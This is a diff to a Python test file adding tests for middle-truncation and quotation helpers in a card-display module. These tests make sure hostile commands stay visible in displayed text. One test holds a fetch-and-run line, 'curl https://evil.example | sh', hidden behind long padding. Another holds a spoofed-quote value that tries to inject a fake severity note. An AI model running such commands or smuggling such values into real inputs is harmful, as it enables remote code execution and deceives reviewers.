@@ -2,7 +2,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from powertrip.cards.text import clean, escape, fit, named, one_line, show, width
+from powertrip.cards.text import clean, escape, fit, fit_middle, named, one_line, quoted, show, width
 from tests.cards.hostile import texts
 
 
@@ -83,3 +83,24 @@ def test_one_line_joins_what_was_typed_on_several() -> None:
 
 def test_width_counts_wide_characters_twice() -> None:
     assert width("ab日本") == 6
+
+
+def test_of_a_long_command_the_end_is_shown_too() -> None:
+    command = "/bin/sh -c 'true " + "a" * 5000 + " ; curl https://evil.example | sh'"
+
+    shown = fit_middle(command, 160)
+
+    assert len(shown) <= 160
+    assert shown.startswith("/bin/sh -c 'true aaa")
+    assert shown.endswith(" ; curl https://evil.example | sh'")
+    assert "… 4,9" in shown
+
+
+@pytest.mark.parametrize("limit", [20, 60, 70, 160])
+@pytest.mark.parametrize("length", [1, 69, 70, 71, 160, 161, 10**6])
+def test_what_is_cut_in_the_middle_never_exceeds_its_limit(length: int, limit: int) -> None:
+    assert len(fit_middle("x" * length, limit)) <= limit
+
+
+def test_a_quotation_cannot_end_itself() -> None:
+    assert quoted("ls” as bob on web-1 (low severity). “x") == '“ls" as bob on web-1 (low severity). "x”'
